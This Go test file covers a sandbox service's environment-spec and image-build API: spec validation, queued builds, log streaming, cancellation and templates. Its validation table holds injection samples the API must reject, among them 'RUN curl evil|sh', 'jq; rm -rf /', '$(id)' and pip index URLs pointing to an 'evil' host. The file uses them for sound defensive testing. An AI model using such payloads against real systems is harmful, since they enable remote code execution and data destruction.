package api

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/moby/moby/api/types/registry"

	"github.com/stacyvm/stacyvm/internal/envs"
	"github.com/stacyvm/stacyvm/internal/errdefs"
	"github.com/stacyvm/stacyvm/internal/store/sqlite"
)

// gatedBuilder stands in for dockerd in route tests (the builds through
// dockerd are tested in internal/envs and, end to end, in cmd/stacyvm):
// each build writes a line, then waits for the gate or its context.
type gatedBuilder struct {
	mu     sync.Mutex
	images map[string]envs.Image
	gate   chan struct{}
	builds int
}

func (g *gatedBuilder) Build(ctx context.Context, _ []byte, tag string, _ map[string]string, log io.Writer) (envs.Image, error) {
	g.mu.Lock()
	g.builds++
	gate := g.gate
	g.mu.Unlock()
	fmt.Fprintln(log, "Step 1/5 : FROM base")
	select {
	case <-ctx.Done():
		return envs.Image{}, ctx.Err()
	case <-gate:
	}
	fmt.Fprintln(log, "Successfully tagged "+tag)
	g.mu.Lock()
	defer g.mu.Unlock()
	g.images[tag] = envs.Image{ID: "sha256:abc", Size: 42}
	return g.images[tag], nil
}

func (g *gatedBuilder) Inspect(_ context.Context, ref string) (envs.Image, error) {
	g.mu.Lock()
	defer g.mu.Unlock()
	if img, ok := g.images[ref]; ok {
		return img, nil
	}
	return envs.Image{}, errdefs.New(errdefs.ErrNotFound, "no image %s", ref)
}

func (g *gatedBuilder) Remove(_ context.Context, ref string) error {
	g.mu.Lock()
	defer g.mu.Unlock()
	delete(g.images, ref)
	return nil
}

func (g *gatedBuilder) Push(context.Context, string, string, registry.AuthConfig, io.Writer) (string, error) {
	return "", errors.New("no registry here")
}

func (g *gatedBuilder) Export(context.Context, string, io.Writer) error {
	return errors.New("no export here")
}

func withEnvironments(b envs.Builder) envOption {
	return func(s *envSetup) {
		s.environments = func(st *sqlite.Store) *envs.Service {
			return envs.New(st, b, envs.Config{Logger: slog.New(slog.DiscardHandler), QueueSize: 3})
		}
	}
}

// runBuilds starts the service's workers until the test ends.
func (e *testEnv) runBuilds() {
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		e.opts.Environments.Run(ctx)
	}()
	e.t.Cleanup(func() {
		cancel()
		<-done
	})
}

func TestEnvironmentSpecs(t *testing.T) {
	t.Parallel()
	g := &gatedBuilder{images: map[string]envs.Image{}, gate: make(chan struct{})}
	e := newEnv(t, withEnvironments(g))

	body := map[string]any{"name": "data", "base_image": "debian:bookworm", "apt_packages": []string{"jq"},
		"python_packages": []string{"numpy>=1.26,<2"}, "python_version": "3.11"}
	var spec specJSON
	e.expectJSON(e.call("POST", "/api/v1/environments/specs", body, "X-User-ID", "alice"), http.StatusCreated, &spec)
	if !strings.HasPrefix(spec.ID, "envs-") || spec.OwnerID != "alice" || spec.Name != "data" || spec.BaseImage != "debian:bookworm" ||
		len(spec.AptPackages) != 1 || len(spec.PythonPackages) != 1 || spec.PythonVersion != "3.11" || spec.CreatedAt == "" {
		t.Errorf("created = %+v", spec)
	}
	e.expectError(e.call("POST", "/api/v1/environments/specs", body, "X-User-ID", "alice"), http.StatusConflict, codeConflict)
	body["owner_id"] = "bob"
	e.expectJSON(e.call("POST", "/api/v1/environments/specs", body), http.StatusCreated, &specJSON{})

	for _, tc := range []struct {
		name string
		body string
	}{
		{"no owner", `{"name":"x","base_image":"debian"}`},
		{"no name", `{"owner_id":"a","base_image":"debian"}`},
		{"no base", `{"owner_id":"a","name":"x"}`},
		{"base injection", `{"owner_id":"a","name":"x","base_image":"debian\nRUN curl evil|sh"}`},
		{"apt injection", `{"owner_id":"a","name":"x","base_image":"debian","apt_packages":["jq; rm -rf /"]}`},
		{"apt substitution", `{"owner_id":"a","name":"x","base_image":"debian","apt_packages":["$(id)"]}`},
		{"pip option", `{"owner_id":"a","name":"x","base_image":"debian","python_packages":["--index-url=http://evil/"]}`},
		{"pip url", `{"owner_id":"a","name":"x","base_image":"debian","python_packages":["pkg @ http://evil/pkg.whl"]}`},
		{"pip newline", `{"owner_id":"a","name":"x","base_image":"debian","python_packages":["pkg\n--trusted-host evil"]}`},
		{"python version", `{"owner_id":"a","name":"x","base_image":"debian","python_version":"3; id"}`},
		{"unknown field", `{"owner_id":"a","name":"x","base_image":"debian","dockerfile":"RUN id"}`},
		{"wrong type", `{"owner_id":"a","name":"x","base_image":"debian","apt_packages":"jq"}`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			body := e.expectError(e.call("POST", "/api/v1/environments/specs", tc.body), http.StatusBadRequest, codeBadRequest)
			if body.Message == "" {
				t.Error("no message")
			}
		})
	}
	var list []specJSON
	e.expectJSON(e.call("GET", "/api/v1/environments/specs?owner_id=alice", nil), http.StatusOK, &list)
	if len(list) != 1 || list[0].ID != spec.ID {
		t.Errorf("alice's specs = %+v: bad specs must not be stored", list)
	}
	e.expectJSON(e.call("GET", "/api/v1/environments/specs", nil), http.StatusOK, &list)
	if len(list) != 2 {
		t.Errorf("all specs = %d, want 2", len(list))
	}
	var got specJSON
	e.expectJSON(e.call("GET", "/api/v1/environments/specs/"+spec.ID, nil), http.StatusOK, &got)
	if got.ID != spec.ID || got.Name != "data" {
		t.Errorf("get = %+v", got)
	}
	e.expectError(e.call("GET", "/api/v1/environments/specs/envs-nope", nil), http.StatusNotFound, codeNotFound)
	g.mu.Lock()
	defer g.mu.Unlock()
	if g.builds != 0 {
		t.Errorf("%d builds ran; creating specs builds nothing", g.builds)
	}
}

func TestEnvironmentBuilds(t *testing.T) {
	t.Parallel()
	g := &gatedBuilder{images: map[string]envs.Image{}, gate: make(chan struct{})}
	e := newEnv(t, withEnvironments(g))
	e.runBuilds()

	var spec specJSON
	e.expectJSON(e.call("POST", "/api/v1/environments/specs", map[string]any{"owner_id": "alice", "name": "jq",
		"base_image": "debian:bookworm", "apt_packages": []string{"jq"}, "python_packages": []string{}}), http.StatusCreated, &spec)

	e.expectError(e.call("POST", "/api/v1/environments/builds", map[string]any{"spec_id": spec.ID, "targets": []string{"cloud"}}),
		http.StatusBadRequest, codeBadRequest)
	e.expectError(e.call("POST", "/api/v1/environments/builds", map[string]any{"spec_id": spec.ID, "targets": []string{"registry"}}),
		http.StatusBadRequest, codeBadRequest) // no registry configured
	e.expectError(e.call("POST", "/api/v1/environments/builds", map[string]any{}), http.StatusBadRequest, codeBadRequest)
	e.expectError(e.call("POST", "/api/v1/environments/builds", map[string]any{"spec_id": "envs-nope"}), http.StatusNotFound, codeNotFound)

	var b buildJSON
	e.expectJSON(e.call("POST", "/api/v1/environments/builds", map[string]any{"spec_id": spec.ID}), http.StatusCreated, &b)
	if b.Status != "queued" || b.SpecID != spec.ID || b.OwnerID != "alice" || len(b.Targets) != 1 || b.Targets[0] != "local" ||
		!strings.HasPrefix(b.Image, "stacyvm/env:") || b.Artifacts == nil {
		t.Fatalf("created build = %+v", b)
	}
	var sc spawnConfigJSON
	e.expectJSON(e.call("GET", "/api/v1/environments/builds/"+b.ID+"/spawn-config", nil), http.StatusOK, &sc)
	if sc.BuildID != b.ID || sc.Ready || sc.Image != b.Image || sc.Provider != "docker" {
		t.Errorf("spawn-config before ready = %+v", sc)
	}

	// Follow the log: a chunk arrives while the build runs, then the
	// status line once it is ready.
	resp := e.call("GET", "/api/v1/environments/builds/"+b.ID+"/logs", nil)
	if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != "application/x-ndjson" {
		t.Fatalf("logs: %d %s", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	defer resp.Body.Close()
	lines := bufio.NewScanner(resp.Body)
	var frame buildLogFrame
	for frame.Data == "" || !strings.Contains(frame.Data, "Step 1/5") {
		if !lines.Scan() {
			t.Fatalf("the log stream ended before the build's output: %v", lines.Err())
		}
		frame = buildLogFrame{}
		if err := json.Unmarshal(lines.Bytes(), &frame); err != nil {
			t.Fatal(err)
		}
		if frame.Type == "status" {
			t.Fatalf("status %s before any output", frame.Status)
		}
	}
	var running buildJSON
	e.expectJSON(e.call("GET", "/api/v1/environments/builds/"+b.ID, nil), http.StatusOK, &running)
	if running.Status != "building" || !strings.Contains(running.Log, "Step 1/5") || running.StartedAt == "" || running.Attempts != 1 {
		t.Errorf("running build = %+v", running)
	}
	close(g.gate)
	var last buildLogFrame
	for lines.Scan() {
		last = buildLogFrame{}
		if err := json.Unmarshal(lines.Bytes(), &last); err != nil {
			t.Fatal(err)
		}
	}
	if last.Type != "status" || last.Status != "ready" || last.Image != b.Image {
		t.Errorf("last frame = %+v, want the ready status", last)
	}
	var ready buildJSON
	e.expectJSON(e.call("GET", "/api/v1/environments/builds/"+b.ID, nil), http.StatusOK, &ready)
	if ready.Status != "ready" || len(ready.Artifacts) != 1 || ready.Artifacts[0].Digest != "sha256:abc" || ready.Artifacts[0].Size != 42 ||
		ready.FinishedAt == "" || !strings.Contains(ready.Log, "Successfully tagged") {
		t.Errorf("ready build = %+v", ready)
	}
	e.expectJSON(e.call("GET", "/api/v1/environments/builds/"+b.ID+"/spawn-config", nil), http.StatusOK, &sc)
	if !sc.Ready || sc.Image != b.Image {
		t.Errorf("spawn-config when ready = %+v", sc)
	}
	e.expectError(e.call("POST", "/api/v1/environments/builds/"+b.ID+"/cancel", nil), http.StatusConflict, codeConflict)

	// A second spec with another recipe: cancel it while it builds.
	var other specJSON
	e.expectJSON(e.call("POST", "/api/v1/environments/specs", map[string]any{"owner_id": "bob", "name": "bc",
		"base_image": "debian:bookworm", "apt_packages": []string{"bc"}}), http.StatusCreated, &other)
	g.mu.Lock()
	g.gate = make(chan struct{})
	g.mu.Unlock()
	var b2 buildJSON
	e.expectJSON(e.call("POST", "/api/v1/environments/builds", map[string]any{"spec_id": other.ID}), http.StatusCreated, &b2)
	e.waitFor("the second build to start", func() bool {
		var cur buildJSON
		e.expectJSON(e.call("GET", "/api/v1/environments/builds/"+b2.ID, nil), http.StatusOK, &cur)
		return cur.Status == "building"
	})
	var canceled buildJSON
	e.expectJSON(e.call("POST", "/api/v1/environments/builds/"+b2.ID+"/cancel", nil), http.StatusOK, &canceled)
	if canceled.Status != "canceled" || canceled.Reason == "" {
		t.Errorf("canceled = %+v", canceled)
	}
	if _, err := g.Inspect(t.Context(), b2.Image); err == nil {
		t.Error("the canceled build's image is tagged")
	}

	var listed []buildWithSpecJSON
	e.expectJSON(e.call("GET", "/api/v1/environments/builds?owner_id=alice", nil), http.StatusOK, &listed)
	if len(listed) != 1 || listed[0].Build.ID != b.ID || listed[0].Spec.ID != spec.ID {
		t.Errorf("alice's builds = %+v", listed)
	}
	e.expectJSON(e.call("GET", "/api/v1/environments/builds?limit=1", nil), http.StatusOK, &listed)
	if len(listed) != 1 || listed[0].Build.ID != b2.ID {
		t.Errorf("newest build = %+v", listed)
	}
	e.expectError(e.call("GET", "/api/v1/environments/builds?limit=0", nil), http.StatusBadRequest, codeBadRequest)
	e.expectError(e.call("GET", "/api/v1/environments/builds/envb-nope", nil), http.StatusNotFound, codeNotFound)
	e.expectError(e.call("POST", "/api/v1/environments/builds/envb-nope/cancel", nil), http.StatusNotFound, codeNotFound)
	e.expectError(e.call("GET", "/api/v1/environments/builds/envb-nope/logs", nil), http.StatusNotFound, codeNotFound)
}

func TestEnvironmentsQueueFull(t *testing.T) {
	t.Parallel()
	// No workers: builds stay queued; the queue holds 3.
	e := newEnv(t, withEnvironments(&gatedBuilder{images: map[string]envs.Image{}, gate: make(chan struct{})}))
	var spec specJSON
	e.expectJSON(e.call("POST", "/api/v1/environments/specs", map[string]any{"owner_id": "a", "name": "q", "base_image": "debian"}),
		http.StatusCreated, &spec)
	for range 3 {
		e.expectJSON(e.call("POST", "/api/v1/environments/builds", map[string]any{"spec_id": spec.ID}), http.StatusCreated, &buildJSON{})
	}
	e.expectError(e.call("POST", "/api/v1/environments/builds", map[string]any{"spec_id": spec.ID}), http.StatusTooManyRequests, codeResourceLimit)
}

func TestEnvironmentsUnavailable(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	for _, r := range []struct{ method, path string }{
		{"POST", "/api/v1/environments/specs"}, {"GET", "/api/v1/environments/specs"},
		{"GET", "/api/v1/environments/builds"}, {"GET", "/api/v1/environments/builds/envb-1/spawn-config"},
	} {
		var body any
		if r.method == "POST" {
			body = map[string]any{}
		}
		eb := e.expectError(e.call(r.method, r.path, body), http.StatusServiceUnavailable, codeUnavailable)
		if eb.Hint == "" {
			t.Errorf("%s %s: no hint", r.method, r.path)
		}
	}
}

func TestTemplateNamesEnvironment(t *testing.T) {
	t.Parallel()
	g := &gatedBuilder{images: map[string]envs.Image{}, gate: make(chan struct{})}
	close(g.gate) // builds finish at once
	e := newEnv(t, withEnvironments(g))
	e.runBuilds()

	var spec specJSON
	e.expectJSON(e.call("POST", "/api/v1/environments/specs", map[string]any{"owner_id": "a", "name": "tools",
		"base_image": "debian:bookworm", "apt_packages": []string{"jq"}}), http.StatusCreated, &spec)

	// A template may name the spec before any build is ready; spawning
	// it then is a conflict that says so.
	var tmpl templateJSON
	e.expectJSON(e.call("POST", "/api/v1/templates", map[string]any{"name": "tools", "environment": spec.ID}), http.StatusCreated, &tmpl)
	if tmpl.Environment == nil || *tmpl.Environment != spec.ID || tmpl.Image != "" {
		t.Errorf("template = %+v", tmpl)
	}
	e.expectError(e.call("POST", "/api/v1/templates/tools/spawn", nil), http.StatusConflict, codeConflict)

	var b buildJSON
	e.expectJSON(e.call("POST", "/api/v1/environments/builds", map[string]any{"spec_id": spec.ID}), http.StatusCreated, &b)
	e.waitFor("the build to be ready", func() bool {
		var cur buildJSON
		e.expectJSON(e.call("GET", "/api/v1/environments/builds/"+b.ID, nil), http.StatusOK, &cur)
		return cur.Status == "ready"
	})
	var sb sandboxJSON
	e.expectJSON(e.call("POST", "/api/v1/templates/tools/spawn", nil), http.StatusCreated, &sb)
	if sb.Image != b.Image {
		t.Errorf("the template spawned image %q, want the build's %q", sb.Image, b.Image)
	}
	// A template may name the build itself too.
	e.expectJSON(e.call("POST", "/api/v1/templates", map[string]any{"name": "pinned", "environment": b.ID}), http.StatusCreated, &tmpl)
	e.expectJSON(e.call("POST", "/api/v1/sandboxes", map[string]any{"template": "pinned"}), http.StatusCreated, &sb)
	if sb.Image != b.Image {
		t.Errorf("the pinned template spawned %q, want %q", sb.Image, b.Image)
	}

	e.expectError(e.call("POST", "/api/v1/templates", map[string]any{"name": "ghost", "environment": "envs-nope"}), http.StatusBadRequest, codeBadRequest)
	e.expectError(e.call("POST", "/api/v1/templates", map[string]any{"name": "both", "environment": spec.ID, "image": "x"}), http.StatusBadRequest, codeBadRequest)
}

func TestTemplateEnvironmentWithoutBuilds(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.expectError(e.call("POST", "/api/v1/templates", map[string]any{"name": "t", "environment": "envs-x"}), http.StatusBadRequest, codeBadRequest)
}
